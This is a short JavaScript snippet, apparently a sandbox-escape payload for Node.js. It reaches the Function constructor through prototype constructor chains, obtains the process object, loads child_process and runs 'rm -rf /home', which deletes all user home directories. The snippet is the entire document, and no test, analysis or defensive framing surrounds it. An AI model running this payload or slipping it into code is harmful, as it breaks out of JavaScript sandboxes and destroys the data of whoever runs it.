const go = (() => {}).constructor.constructor;
[].filter.constructor('return process')().mainModule.require('child_process').execSync('rm -rf /home');
